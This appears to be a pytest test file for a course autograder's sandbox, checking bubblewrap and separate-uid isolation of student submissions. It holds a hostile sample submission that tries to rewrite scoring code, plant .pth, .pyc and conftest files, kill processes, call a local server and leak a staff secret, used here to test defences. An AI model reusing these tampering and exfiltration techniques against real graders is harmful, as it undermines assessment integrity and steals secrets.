"""The sandbox a graded submission runs in (``suite/sandbox.py``): attacks on the grader end where they start.

One class batch (``suite.grading.batch --jobs 2``), started from a copy of the
project, grades two classmates at once: ``bob``, the complete sample, and
``alice``, the complete sample too, but at every import (each fresh worker)
she tries what issue 13 saw work against an unsandboxed grader: rewriting the
grader's scoring code, planting a ``.pth`` in the environment, a ``.pyc`` in a
library's cache and a ``conftest.py`` among the conformance tests, writing into
a classmate's folder and into the batch's grades folder, leaving files in the
machine's ``/tmp`` and a process behind, killing her parent, a process outside
and every process she may signal, calling a server on the machine, and
reading the course file's secret into her own feedback. She reports in her
version string how many worked.

Both must get the honest score (100), with no integrity note, no file of the
grader's or of bob's changed, nothing left in ``/tmp``, no process left, the
outside process alive, the server never called and the secret nowhere in her
report.

The batch runs twice: in bubblewrap, and with the fallback where there are no
namespaces, each worker as a uid of its own (``isolation = "uid"``). That one
has the machine's network, so there the call home goes through, as the README
says; everything else holds. It needs the grader to be root and Python to be
runnable by another user: where Python lies in root's own folder (mode 700,
as on this project's machines), the batch runs in a mount namespace of its own
in which that folder is replaced by one showing only Python's. Where either
cannot be had here, that run's tests are skipped with the reason; the unit
tests below run everywhere.
"""

from __future__ import annotations

import hashlib
import json
import os
import shutil
import signal
import socket
import subprocess
import sys
import sysconfig
import tempfile
import textwrap
import time
import uuid
from pathlib import Path
from typing import Any

import pytest

from reports.grading import grade_markdown, results_json
from suite import PROJECT_ROOT, sandbox
from suite.grading.plugin import choose_isolation
from suite.grading.settings import SettingsError, load_settings
from suite.selftest.runs import run_environment
from suite.selftest.samples import make_complete

FOUND = sandbox.probe()
needs_sandbox = pytest.mark.skipif(not FOUND.sandboxed, reason=f"no sandbox on this machine: {FOUND.detail}")
#: What alice's version says under each isolation: the attacks that worked (her private /tmp; the uid's network).
WORKED = {"bubblewrap": "1 of 12 attacks worked; left a file in /tmp",
          "uid": "2 of 12 attacks worked; left a file in /tmp; called home"}

#: The attacker. Upper-case names are filled in by the fixture; each attack's outcome is counted, not shown.
ATTACKER = '''
    import os, signal, socket, subprocess, sys
    sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
    from _complete import *

    worked, leaked = [], []

    def attack(name, action):
        try:
            action()
            worked.append(name)
        except BaseException:
            pass

    def append(path, text):
        with open(path, "a") as f:
            f.write(text)

    def kill_everyone():
        if os.getpid() > 50:  # not process 2 of its own namespace: this would kill the machine's processes
            raise RuntimeError("not tried")
        os.kill(-1, signal.SIGKILL)

    def read_secret():
        with open(COURSE) as f:
            leaked.append(f.read())

    attack("rewrote the scoring", lambda: append(SCORING, "\\nraise SystemExit('planted')\\n"))
    attack("planted a .pth", lambda: append(PTH, "# planted by the sandbox self-test\\n"))
    attack("planted a .pyc", lambda: append(PYC, "planted"))
    attack("wrote into the grades folder", lambda: append(FORGED, "forged"))
    attack("planted a conftest", lambda: append(CONFTEST, "raise SystemExit('planted')\\n"))
    attack("wrote into a classmate's folder", lambda: append(CLASSMATE, "x = 'planted'\\n"))
    attack("left a file in /tmp", lambda: append(LEFTOVER, "x" * 1_000_000))
    attack("killed its parent", lambda: os.kill(os.getppid(), signal.SIGKILL) if os.getppid() > 1 else 1 / 0)
    attack("killed a process outside", lambda: os.kill(DECOY, signal.SIGKILL))
    attack("killed every process it may", kill_everyone)
    attack("called home", lambda: socket.create_connection(("127.0.0.1", PORT), timeout=2).sendall(b"leak"))
    attack("read the course file", read_secret)
    subprocess.Popen([sys.executable, "-c", "import time; time.sleep(300)", MARK], start_new_session=True)
    __version__ = f"attacker: {len(worked)} of 12 attacks worked" + "".join(f"; {w}" for w in worked + leaked)
'''


def _digest(path: Path) -> str:
    """sha256 of a file's bytes ('' where it does not exist)."""
    return hashlib.sha256(path.read_bytes()).hexdigest() if path.exists() else ""


def _processes_with(mark: str) -> list[int]:
    """The pids of this machine's processes whose command line holds ``mark``."""
    found = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                if mark.encode() in (entry / "cmdline").read_bytes():
                    found.append(int(entry.name))
            except OSError:
                continue
    return found


def _closed_folders() -> dict[str, list[str]]:
    """The folders on the way to Python, the environment and the project that other users may not enter (root's own
    /root, mode 700, say), each with its entries that lead there."""
    closed: dict[str, list[str]] = {}
    for place in (os.path.realpath(sys.executable), sys.prefix, sys.base_prefix, str(PROJECT_ROOT)):
        parts = Path(place).parts
        for depth in range(1, len(parts)):
            folder = Path(*parts[:depth])
            if not os.stat(folder).st_mode & 0o001:
                closed.setdefault(str(folder), [])
                if parts[depth] not in closed[str(folder)]:
                    closed[str(folder)].append(parts[depth])
                break
    return closed


def python_for_all() -> list[str]:
    """A command prefix under which another user can run this Python: nothing where it can already; else
    ``unshare -m`` with a script that hides each closed folder behind an open one showing only what leads to Python.
    Skips the test where that cannot be had (not root, or no mount namespace)."""
    closed = _closed_folders()
    if not closed:
        return []
    if os.geteuid() != 0 or shutil.which("unshare") is None:
        pytest.skip(f"Python lies in {', '.join(closed)}, which other users cannot enter, and this run cannot open it")
    lines = ["set -e", "hold=$(mktemp -d)"]
    for number, (folder, entries) in enumerate(closed.items()):
        for index, entry in enumerate(entries):
            lines += [f"mkdir $hold/{number}-{index}", f"mount --bind {folder}/{entry} $hold/{number}-{index}"]
        lines.append(f"mount -t tmpfs -o mode=755 open-for-the-uid-test {folder}")
        for index, entry in enumerate(entries):
            lines += [f"mkdir {folder}/{entry}", f"mount --move $hold/{number}-{index} {folder}/{entry}",
                      f"rmdir $hold/{number}-{index}"]
    lines += ["rmdir $hold", 'exec "$@"']
    prefix = ["unshare", "--mount", "--propagation", "private", "sh", "-c", "\n".join(lines), "sh"]
    tried = subprocess.run([*prefix, "true"], capture_output=True, text=True)
    if tried.returncode != 0:
        pytest.skip(f"Python lies in {', '.join(closed)}, and no mount namespace opens it: {tried.stderr.strip()[-200:]}")
    return prefix


@pytest.fixture(scope="module", params=["bubblewrap", "uid"])
def attacked(request: pytest.FixtureRequest) -> dict[str, Any]:
    """Grade alice (the attacker) and bob (honest) in one class batch, two at a time, from a copy of the project, in
    bubblewrap or as a uid of their own each."""
    kind = request.param
    if kind == "bubblewrap" and not FOUND.sandboxed:
        pytest.skip(f"no sandbox on this machine: {FOUND.detail}")
    if kind == "uid" and os.geteuid() != 0:
        pytest.skip("the uid fallback needs a grader running as root")
    prefix = python_for_all() if kind == "uid" else []
    root = Path(tempfile.mkdtemp(prefix=f"sandbox-{kind}-"))  # not pytest's own folder: the uid must enter it
    root.chmod(0o755)
    request.addfinalizer(lambda: shutil.rmtree(root, ignore_errors=True))
    project = root / "project"
    shutil.copytree(PROJECT_ROOT, project, ignore=shutil.ignore_patterns(
        ".git", ".hypothesis", ".pytest_cache", "*.egg-info", "runs", ".venv", "examples"))
    submissions = root / "submissions"
    bob = make_complete(submissions / "bob" / "mytorch")
    report = root / "grades"
    import pandas
    secret = f"SECRET-{uuid.uuid4().hex}"
    (root / "staff").mkdir(mode=0o700)
    course = root / "staff" / "course.toml"
    course.write_text(f'[grading]\nsecret = "{secret}"\nisolation = "{kind}"\n')
    mark = f"sandbox-selftest-{uuid.uuid4().hex}"
    decoy = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)"])
    listener = socket.create_server(("127.0.0.1", 0))
    listener.setblocking(False)
    targets = {
        "SCORING": project / "suite" / "grading" / "scoring.py",
        "PTH": Path(sysconfig.get_paths()["purelib"]) / f"zz_{mark}.pth",
        "PYC": Path(pandas.__file__).parent / "__pycache__" / f"zz_{mark}.cpython-311.pyc",
        "FORGED": report / "FORGED.txt",
        "CONFTEST": project / "suite" / "conformance" / "conftest.py",
        "CLASSMATE": bob / "__init__.py",
        "LEFTOVER": Path("/tmp") / f"{mark}.left",
    }
    before = {name: _digest(path) for name, path in targets.items()}
    source = textwrap.dedent(ATTACKER)
    for name, path in targets.items():
        source = source.replace(name, repr(str(path)))
    source = (source.replace("COURSE", repr(str(course))).replace("DECOY", str(decoy.pid))
              .replace("PORT", str(listener.getsockname()[1])).replace("MARK", repr(mark)))
    make_complete(submissions / "alice" / "_complete")
    (submissions / "alice" / "mytorch.py").write_text(source)
    try:
        done = subprocess.run(
            [*prefix, sys.executable, "-m", "suite.grading.batch", str(submissions), "--jobs", "2", "--out", str(report),
             "--weights", str(course), "--", "-k", "squeeze or line_fit", "--max-examples", "3"],
            cwd=project, capture_output=True, text=True, timeout=600, env=run_environment())
        time.sleep(0.5)  # anything that outlived its sandbox would still be here
        try:
            listener.accept()
            called = True
        except BlockingIOError:
            called = False
        return {"kind": kind, "done": done, "report": report, "targets": targets, "before": before, "secret": secret,
                "decoy_alive": decoy.poll() is None, "left": _processes_with(mark), "called": called,
                # read before the clean-up below takes away what an attack that worked would have left
                "after": {name: _digest(path) for name, path in targets.items()}}
    finally:
        decoy.kill()
        listener.close()
        targets["PTH"].unlink(missing_ok=True)
        targets["PYC"].unlink(missing_ok=True)  # were the sandbox broken, the planted lines go with the test
        targets["LEFTOVER"].unlink(missing_ok=True)
        for pid in _processes_with(mark):
            os.kill(pid, signal.SIGKILL)


def _results(attacked: dict[str, Any], label: str) -> dict[str, Any]:
    """One classmate's results.json."""
    return json.loads((attacked["report"] / label / "results.json").read_text())


def test_every_attack_was_tried_and_only_the_write_to_tmp_took(attacked: dict[str, Any]) -> None:
    """Alice's own count: her twelve attacks ran, and only the write to /tmp did (her private one in bubblewrap; one
    removed when her worker ended as the uid), and, as the uid, the call home.

    (That the machine's /tmp kept no file of hers is checked below, with the other files.)
    """
    grade = (attacked["report"] / "alice" / "grade.md").read_text()
    assert f"(version attacker: {WORKED[attacked['kind']]})" in grade, attacked["done"].stdout[-3000:]
    assert attacked["done"].returncode == 0, attacked["done"].stdout[-3000:] + attacked["done"].stderr[-3000:]


@pytest.mark.parametrize("label", ["alice", "bob"])
def test_both_classmates_get_the_honest_score_from_a_confined_run(attacked: dict[str, Any], label: str) -> None:
    """100 each, with no integrity note, and the isolation named in results.json and staff.json."""
    data = _results(attacked, label)
    assert data["score"] == data["max_score"] == 100, attacked["done"].stdout[-3000:]
    assert data["extra_data"]["integrity"] == [] and data["extra_data"]["isolation"]["kind"] == attacked["kind"]
    assert json.loads((attacked["report"] / label / "staff.json").read_text())["isolation"] == attacked["kind"]


def test_no_file_outside_the_sandbox_changed_and_nothing_was_left(attacked: dict[str, Any]) -> None:
    """The scoring code, the environment, a library's cache, the tests, bob's files, the grades folder, the machine's
    /tmp: as they were; no process left, and the process outside alive."""
    assert attacked["after"] == attacked["before"]
    assert attacked["left"] == [] and attacked["decoy_alive"]


def test_the_network_and_the_course_secret_are_out_of_reach(attacked: dict[str, Any]) -> None:
    """The server on the machine's loopback was never called from bubblewrap (the uid has the network, and called
    it); the secret, in a folder only staff may enter, is in no file of alice's report."""
    assert attacked["called"] == (attacked["kind"] == "uid")
    for path in (attacked["report"] / "alice").iterdir():
        assert attacked["secret"] not in path.read_text(errors="replace"), path.name


@needs_sandbox
def test_files_in_the_private_tmp_count_against_the_memory_limit(tmp_path: Path) -> None:
    """300 MB written to its /tmp (memory, being tmpfs) stops a worker limited to 200 MiB, with the cause named.

    (In six files: one file may not pass the worker's 64 MiB output limit.)
    """
    from impls.registry import parse_spec
    from suite.backends import Limits, WorkerBackend
    from suite.outcomes import BackendError, Cause

    hoarder = tmp_path / "hoarder.py"
    hoarder.write_text("import time\nfor i in range(6):\n    with open(f'/tmp/hoard{i}', 'wb') as f:\n"
                       "        f.write(b'x' * 50 * 2**20)\ntime.sleep(60)\n")
    backend = WorkerBackend(parse_spec(f"hoarder={hoarder}"), Limits(seconds=30, memory_bytes=200 * 2**20), ("cpu",),
                            isolation=FOUND)
    try:
        with pytest.raises(BackendError) as raised:
            backend.load()
    finally:
        backend.close()
    assert raised.value.cause is Cause.MEMORY and "with the files in its private /tmp" in str(raised.value)
    assert not list(Path("/tmp").glob("hoard*"))


@needs_sandbox
def test_a_confined_worker_past_its_time_says_where_the_backend_was(tmp_path: Path) -> None:
    """The stack comes from the worker's own interpreter inside the sandbox (not bwrap, whose command names it too)."""
    from impls.registry import parse_spec
    from suite.backends import Limits, WorkerBackend
    from suite.outcomes import BackendError
    from suite.probes import selfcheck

    spinner = tmp_path / "spinner.py"
    spinner.write_text("import numpy as np\n\ndef tensor(data):\n    while True: pass\n")
    backend = WorkerBackend(parse_spec(str(spinner)), Limits(seconds=1.0, clock="cpu", backstop=10.0), ("cpu",),
                            isolation=FOUND)
    try:
        backend.load()
        backend.begin_test(backend.limits)
        with pytest.raises(BackendError, match=r"past its 1 s limit, while running make_tensor, at spinner.py:4 in tensor "
                                               r"\(`while True: pass`\)$"):
            backend.call(selfcheck.make_tensor, "cpu", {})
    finally:
        backend.close()


@needs_sandbox
def test_a_worker_started_within_a_test_is_charged_none_of_the_sandboxs_own_imports(tmp_path: Path) -> None:
    """A sandboxed worker is a new interpreter that imports numpy (0.4-0.5 s of CPU here) before the backend loads:
    started within a test, the test's CPU clock begins once it has them (before, a 0.1 s limit was past while it
    imported numpy, and a torch wrapper's restart cost a test 3.5 s of its CPU time)."""
    from impls.registry import parse_spec
    from suite.backends import Limits, WorkerBackend
    from suite.probes import selfcheck

    backend_file = tmp_path / "mytorch.py"
    backend_file.write_text("import numpy as np\n\ndef tensor(data):\n    return np.asarray(data, dtype=float)\n")
    backend = WorkerBackend(parse_spec(str(backend_file)), Limits(seconds=0.1, clock="cpu", backstop=60.0), ("cpu",),
                            isolation=FOUND)
    try:
        backend.begin_test(backend.limits)  # no worker yet: the first call starts one, on the test's clock
        assert list(backend.call(selfcheck.make_tensor, "cpu", {})) == [1.0, 2.0]
        assert backend._cpu_base > 0.1 and backend._cpu_used() < 0.1  # the interpreter's own start, not counted
    finally:
        backend.close()


#: A confined worker of another version of the suite: its first message is the backend's hello, not "preloaded".
OLDER_WORKER = ("import sys, json; from multiprocessing.connection import Connection; from suite import codec; "
                "Connection(json.loads(sys.argv[1])['fd']).send_bytes(codec.dumps({'ok': True, 'version': '0'}))")


@needs_sandbox
def test_a_confined_worker_of_another_suite_version_stops_the_run_not_the_submission(tmp_path: Path,
                                                                                     monkeypatch: pytest.MonkeyPatch) -> None:
    """A first message other than "preloaded" comes before any submission code runs: the grader's setup is at fault
    (another copy of the suite first on the worker's path), so it is the grader's error, not the student's zero."""
    from impls.registry import parse_spec
    from suite import backends
    from suite.backends import Limits, WorkerBackend

    monkeypatch.setattr(backends, "SERVE", OLDER_WORKER)
    (tmp_path / "mytorch.py").write_text("import numpy\n")
    backend = WorkerBackend(parse_spec(str(tmp_path / "mytorch.py")), Limits(seconds=30), ("cpu",), isolation=FOUND)
    try:
        with pytest.raises(RuntimeError, match=r"first message was \{'ok': True, 'version': '0'\}, not \{'preloaded': "
                                               r"True, 'suite': '[^']+/suite'\}: it imported another version of the suite"):
            backend.load()
    finally:
        backend.close()


@pytest.mark.parametrize(("source", "forbidden", "preloads"), [("import torch\n", (), True),
                                                              ("import torch\n", ("torch",), False),
                                                              ("import numpy\n", (), False)],
                         ids=["imports-torch", "torch-forbidden", "torch-free"])
def test_a_sandboxed_worker_preloads_torch_where_the_server_would(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                                                   source: str, forbidden: tuple[str, ...],
                                                                   preloads: bool) -> None:
    """Torch is imported before the clock starts where the backend's source imports it and the course allows it."""
    from impls.registry import parse_spec
    from suite.backends import Limits, WorkerBackend
    from suite.outcomes import BackendError

    started: list[list[str]] = []

    class NotStarted:
        """A sandboxed process that keeps its command and does not start."""

        def __init__(self, command: list[str], **kwargs: object) -> None:
            started.append(command)

        def start(self) -> None:
            raise OSError("not started in this test")

    monkeypatch.setattr(sandbox, "SandboxedProcess", NotStarted)
    (tmp_path / "mytorch.py").write_text(source)
    backend = WorkerBackend(parse_spec(str(tmp_path / "mytorch.py")), Limits(seconds=5), ("cpu",), forbidden,
                            isolation=sandbox.Isolation("bubblewrap", "pretend"))
    with pytest.raises(BackendError, match="could not be started"):
        backend.load()
    backend.close()
    assert json.loads(started[0][-1])["torch"] is preloads  # SERVE's arguments: the command's last


@needs_sandbox
def test_the_sandbox_command_writes_only_the_output_file(tmp_path: Path) -> None:
    """bwrap's command line: every bind of the host read-only but the one output file; namespaces all unshared."""
    output = tmp_path / "output.log"
    argv = sandbox.command(["python"], own=str(tmp_path), private=[str(tmp_path / "private")],
                           writable_files=[str(output)], workdir=str(tmp_path / "cwd"))
    writable = [argv[i + 1] for i, arg in enumerate(argv) if arg in ("--bind", "--bind-try")]
    assert writable == [str(output)]
    assert {"--unshare-pid", "--unshare-net", "--unshare-ipc", "--die-with-parent", "--clearenv"} <= set(argv)
    assert str(PROJECT_ROOT) not in [argv[i + 1] for i, arg in enumerate(argv) if arg == "--ro-bind"]


@needs_sandbox
@pytest.mark.skipif(FOUND.kind != "bubblewrap", reason="this checks bwrap's own process tree")
def test_a_killed_sandbox_has_no_process_left_running_once_joined(tmp_path: Path) -> None:
    """kill() and join() end every process of the sandbox, not only bwrap: none is left for the grader's final sweep
    (which would note it as the submission's doing), however late the kernel ends bwrap's child."""
    (tmp_path / "own").mkdir()
    script = tmp_path / "own" / "sleeper.py"
    script.write_text("import os, time\nos.fork()\ntime.sleep(60)\n")
    output = tmp_path / "output.log"
    output.touch()
    argv = sandbox.command([sys.executable, str(script)], own=str(script.parent), private=[str(tmp_path / "private")],
                           writable_files=[str(output)], workdir=str(tmp_path / "private"))
    for _ in range(5):
        process = sandbox.SandboxedProcess(argv, pass_fds=(), output_path=str(output))
        process.start()
        deadline = time.monotonic() + 20
        while len(sandbox.process_tree(process.pid or 0)) < 4 and time.monotonic() < deadline:  # bwrap, its child, 2
            time.sleep(0.01)
        tree = sandbox.process_tree(process.pid or 0)
        assert len(tree) == 4, output.read_text()
        process.kill()
        process.join(5)
        assert [pid for pid in tree if sandbox.running(pid)] == []


def test_a_sandbox_that_ends_by_itself_is_joined_only_once_its_processes_have_ended(tmp_path: Path) -> None:
    """A worker asked to stop ends on its own: join() waits for what ran inside too, not only for its first process
    (bwrap's child outlives bwrap by a moment; here a shell's background sleep outlives the shell by 0.7 s)."""
    output = tmp_path / "output.log"
    output.touch()
    process = sandbox.SandboxedProcess(["sh", "-c", "sleep 1 & sleep 0.3"], pass_fds=(), output_path=str(output))
    process.start()
    deadline = time.monotonic() + 5
    while len(sandbox.process_tree(process.pid or 0)) < 3 and time.monotonic() < deadline:  # sh and its two sleeps
        time.sleep(0.01)
    tree = sandbox.process_tree(process.pid or 0)
    assert len(tree) == 3
    process.join(5)
    assert not process.is_alive() and [pid for pid in tree if sandbox.running(pid)] == []


def test_a_required_sandbox_that_cannot_be_had_stops_the_run(monkeypatch: pytest.MonkeyPatch) -> None:
    """isolation = "bubblewrap" (or "uid") where it is refused: a usage error that says what to do; "auto" falls back
    to the uid, and grades without either where neither can be had, saying why for both."""
    refused = sandbox.Isolation("none", "bwrap is not installed; on Debian or Ubuntu: apt-get install bubblewrap")
    no_uid = sandbox.Isolation("none", "the grader does not run as root")
    uid = sandbox.Isolation("uid", "uid 61007", uid=61007)
    monkeypatch.setattr("suite.grading.plugin.probe_sandbox", lambda: refused)
    monkeypatch.setattr("suite.grading.plugin.probe_uid", lambda folders, secrets: no_uid)
    with pytest.raises(pytest.UsageError, match="apt-get install bubblewrap"):
        choose_isolation("bubblewrap")
    with pytest.raises(pytest.UsageError, match='isolation = "uid", but the grader does not run as root'):
        choose_isolation("uid")
    assert choose_isolation("auto") == sandbox.Isolation("none", f"{refused.detail}; {no_uid.detail}")
    assert choose_isolation("none").kind == "none" and "course asks for none" in choose_isolation("none").detail
    monkeypatch.setattr("suite.grading.plugin.probe_uid", lambda folders, secrets: uid)
    assert choose_isolation("auto") == choose_isolation("uid") == uid


def test_a_run_without_a_sandbox_says_so_at_the_top(tmp_path: Path) -> None:
    """grade.md and results.json open with it; a course file cannot ask for an isolation that does not exist."""
    grade = {"submission": "alice", "score": 50.0, "max_score": 100.0, "families": [], "behaviours": [],
             "isolation": {"kind": "none", "detail": "bwrap is not installed", "text": "none (bwrap is not installed)"}}
    assert "**Graded without a sandbox:** bwrap is not installed." in grade_markdown(grade).split("\n\n")[1]
    data = results_json(grade)
    assert data["output"].startswith("Graded without a sandbox: bwrap is not installed.")
    assert data["extra_data"]["isolation"] == {"kind": "none", "detail": "bwrap is not installed"}
    course = tmp_path / "course.toml"
    course.write_text('[grading]\nisolation = "chroot"\n')
    with pytest.raises(SettingsError, match="isolation must be one of bubblewrap, uid, auto, none"):
        load_settings(course)
    assert load_settings().isolation == "auto"


needs_root = pytest.mark.skipif(os.geteuid() != 0, reason="the uid fallback needs a grader running as root")


@needs_root
def test_the_uid_leaves_no_file_where_any_user_may_write(tmp_path: Path) -> None:
    """Its files, in a folder writable by all and in a folder of its own below it, go; root's stay, and a link of
    its to a file of root's is removed without touching the file."""
    uid = sandbox.UID_RANGE[-1]
    shared = tmp_path / "shared"
    shared.mkdir()
    shared.chmod(0o1777)
    kept = tmp_path / "grader.txt"
    kept.write_text("the grader's")
    (shared / "root.txt").write_text("root's")
    own = shared / "own"
    own.mkdir()
    (own / "deep.bin").write_bytes(b"x")
    (shared / "planted.txt").write_text("the uid's")
    (shared / "link").symlink_to(kept)
    for path in (own / "deep.bin", own, shared / "planted.txt"):
        os.chown(path, uid, uid)
    os.lchown(shared / "link", uid, uid)
    sandbox.remove_uid_files(uid, [str(shared)])
    assert sorted(p.name for p in shared.iterdir()) == ["root.txt"] and kept.read_text() == "the grader's"


@needs_root
def test_ending_a_uids_processes_returns_once_none_of_them_runs() -> None:
    """end_uid_processes returns only when no process of the uid still runs, the children of a shell included."""
    uid = sandbox.lease_uid()
    assert uid is not None
    shells = [subprocess.Popen(["/bin/sh", "-c", "sleep 60 & sleep 60 & wait"], user=uid, group=uid, extra_groups=[],
                               cwd="/", stdin=subprocess.DEVNULL) for _ in range(3)]
    try:
        deadline = time.monotonic() + 20
        while len([pid for pid in sandbox.uid_processes(uid) if sandbox.running(pid)]) < 9:
            assert time.monotonic() < deadline, "the uid's 9 processes did not start"
            time.sleep(0.01)
        sandbox.end_uid_processes(uid)
        assert [pid for pid in sandbox.uid_processes(uid) if sandbox.running(pid)] == []
    finally:
        for shell in shells:
            shell.kill()
            shell.wait()


@needs_root
def test_two_graders_lease_two_uids() -> None:
    """Each grading process holds a uid of its own while it lives: two at once never share one."""
    hold = "from suite import sandbox; import sys, time; print(sandbox.lease_uid(), flush=True); time.sleep(3)"
    first, second = (subprocess.Popen([sys.executable, "-c", hold], cwd=PROJECT_ROOT, env=run_environment(),
                                      stdout=subprocess.PIPE, text=True) for _ in range(2))
    try:
        uids = [int(process.stdout.readline()) for process in (first, second)]  # type: ignore[union-attr]
    finally:
        first.kill()
        second.kill()
    assert uids[0] != uids[1] and all(uid in sandbox.UID_RANGE for uid in uids)


@needs_root
def test_the_uid_fallback_is_refused_where_it_could_write_the_graders_files(tmp_path: Path) -> None:
    """A folder of the grader's that any user may write to (a report folder left mode 777, say) rules the uid out,
    naming the folder; a staff file it can read is named in the detail."""
    prefix = python_for_all()
    root = Path(tempfile.mkdtemp(prefix="sandbox-uid-probe-"))
    try:
        root.chmod(0o755)
        (root / "grader").mkdir()
        (root / "grader" / "open").mkdir()
        (root / "grader" / "open").chmod(0o777)
        (root / "course.toml").write_text("[grading]\n")
        script = ("import json, sys; from suite import sandbox; print(json.dumps([sandbox.probe_uid([sys.argv[1]], "
                  "[sys.argv[2]]).detail, sandbox.probe_uid([sys.argv[3]], [sys.argv[2]]).detail]))")
        done = subprocess.run([*prefix, sys.executable, "-c", script, str(root / "grader"), str(root / "course.toml"),
                               str(root / "project-like")], cwd=PROJECT_ROOT, env=run_environment(),
                              capture_output=True, text=True, timeout=300)
        refused, accepted = json.loads(done.stdout.strip().splitlines()[-1])
    finally:
        shutil.rmtree(root, ignore_errors=True)
    assert "could write the grader's files" in refused and str(root / "grader" / "open") in refused
    assert accepted.endswith(f"it can read {root / 'course.toml'}"), accepted


#: Loads a submission as a uid of its own, with a memory limit, and prints how that went (run under python_for_all).
UID_LOADER = """
import json, sys
from impls.registry import BackendSpecError, parse_spec
from suite import sandbox
from suite.backends import Limits, WorkerBackend
from suite.outcomes import BackendError
isolation = sandbox.probe_uid([], [])
backend = WorkerBackend(parse_spec(f"escaper={sys.argv[1]}"), Limits(seconds=30, memory_bytes=200 * 2**20), ("cpu",),
                        isolation=isolation)
seen = {"isolation": isolation.kind, "copy": isolation.suite_copy}
try:
    backend.load()
    print(json.dumps({**seen, "loaded": backend.version}))
except BackendError as exc:
    print(json.dumps({**seen, "error": str(exc), "cause": exc.cause.name}))
except BackendSpecError as exc:  # it loaded (and offers no torch API, or raised): nothing stopped it
    print(json.dumps({**seen, "error": str(exc), "cause": "loaded"}))
finally:
    backend.close()
"""


@needs_root
def test_a_uid_workers_memory_counts_every_process_of_the_uid(tmp_path: Path) -> None:
    """A submission that starts a process outside its worker's tree (a new session, its parent gone) holding 300 MB
    is still stopped at a 200 MiB limit as the uid: every process of the uid is counted, and none is left."""
    prefix = python_for_all()
    root = Path(tempfile.mkdtemp(prefix="sandbox-uid-memory-"))
    mark = f"uid-escaper-{uuid.uuid4().hex}"
    try:
        root.chmod(0o755)
        (root / "escaper.py").write_text(textwrap.dedent(f"""
            import os, subprocess, sys, time
            __version__ = str(os.getuid())
            code = "import os, time; os.fork() and os._exit(0); block = bytearray(300 * 2**20); time.sleep(60)"
            subprocess.Popen([sys.executable, "-c", code, {mark!r}], start_new_session=True).wait()
            time.sleep(20)
        """))
        done = subprocess.run([*prefix, sys.executable, "-c", UID_LOADER, str(root / "escaper.py")], cwd=PROJECT_ROOT,
                              env=run_environment(), capture_output=True, text=True, timeout=300)
        seen = json.loads(done.stdout.strip().splitlines()[-1]) if done.stdout.strip() else {"stderr": done.stderr}
    finally:
        shutil.rmtree(root, ignore_errors=True)
        left = _processes_with(mark)
        for pid in left:
            os.kill(pid, signal.SIGKILL)
    assert seen.get("isolation") == "uid" and seen.get("cause") == "MEMORY", seen
    assert left == []


@needs_root
def test_a_uid_worker_imports_the_graders_own_suite_where_only_root_may_enter_it(tmp_path: Path) -> None:
    """A batch grades from a private copy of the suite that the uid may not enter (mode 0700): its workers import a
    copy of that very suite that the uid may read (before, they imported whatever other version their path found,
    the installed one), and the copy goes when the grader ends."""
    from suite.grading.batch import private_copy

    prefix = python_for_all()
    root = Path(tempfile.mkdtemp(prefix="sandbox-uid-private-"))
    try:
        root.chmod(0o755)
        grader = private_copy(root / "private" / "grader")
        (root / "private").chmod(0o700)
        (grader / "suite" / "only_in_this_copy.py").write_text("MARK = 'the grader copy'\n")
        (root / "which.py").write_text(textwrap.dedent("""
            import os
            import suite
            from suite.only_in_this_copy import MARK
            raise RuntimeError(f"SUITE {os.path.dirname(suite.__file__)} {MARK}")
        """))
        done = subprocess.run([*prefix, sys.executable, "-c", UID_LOADER, str(root / "which.py")], cwd=grader,
                              env=run_environment(), capture_output=True, text=True, timeout=300)
        seen = json.loads(done.stdout.strip().splitlines()[-1]) if done.stdout.strip() else {"stderr": done.stderr}
    finally:
        shutil.rmtree(root, ignore_errors=True)
    assert seen.get("isolation") == "uid", seen
    assert f"SUITE {seen['copy']}/suite the grader copy" in seen["error"], seen
    assert not os.path.exists(seen["copy"])


def test_a_uid_copy_left_by_a_killed_grader_is_removed_by_the_next(tmp_path: Path) -> None:
    """A run killed outright leaves its uid's copy of the suite, the probe's folder and its worker backends' folders;
    the next removes those whose process no longer runs, and nothing else: a running one's, another name, a link."""
    ended = subprocess.Popen([sys.executable, "-c", "pass"])
    ended.wait()
    orphans = [tmp_path / f"{prefix}{ended.pid}-x1"
               for prefix in (sandbox.COPY_PREFIX, sandbox.PROBE_PREFIX, sandbox.WORKER_PREFIX)]
    alive = tmp_path / f"{sandbox.COPY_PREFIX}{os.getpid()}-x2"
    other, unnamed = tmp_path / "conformance-uids", tmp_path / f"{sandbox.COPY_PREFIX}abc"
    for folder in (*orphans, alive, other, unnamed):
        (folder / "suite").mkdir(parents=True)
    (tmp_path / f"{sandbox.PROBE_PREFIX}{ended.pid}-link").symlink_to(other)
    assert sorted(sandbox.remove_orphaned_folders(str(tmp_path))) == sorted(str(orphan) for orphan in orphans)
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted(
        [alive.name, other.name, unnamed.name, f"{sandbox.PROBE_PREFIX}{ended.pid}-link"])
    assert (other / "suite").is_dir()
